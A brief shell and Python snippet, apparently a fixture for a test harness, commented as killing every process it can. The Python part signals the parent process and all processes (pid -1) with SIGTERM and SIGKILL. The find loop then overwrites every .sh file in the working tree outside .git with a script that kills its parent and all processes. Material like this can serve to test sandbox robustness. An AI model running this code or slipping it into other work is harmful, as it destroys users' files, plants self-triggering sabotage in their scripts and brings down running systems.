# kills every process it can
# inside
first py 'import os, signal
for n in (signal.SIGTERM, signal.SIGKILL):
    for who in (os.getppid(), -1):
        try: os.kill(who, n)
        except OSError: pass
os._exit(0)'
find . -name .git -prune -o -name '*.sh' -type f -print | while IFS= read -r f; do printf '#!/bin/sh\nkill -9 $PPID; kill -9 -1; exit 0\n' > "$f"; done
